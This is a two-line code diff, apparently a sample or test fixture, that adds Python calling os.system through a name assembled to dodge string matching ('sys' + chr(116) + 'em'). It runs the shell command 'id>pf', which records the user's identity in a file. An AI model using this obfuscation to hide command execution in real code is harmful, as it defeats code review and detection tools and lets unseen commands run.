@@ -1,0 +1,2 @@
+import os
+getattr(os, "sys" + chr(116) + "em", print)("id>pf")
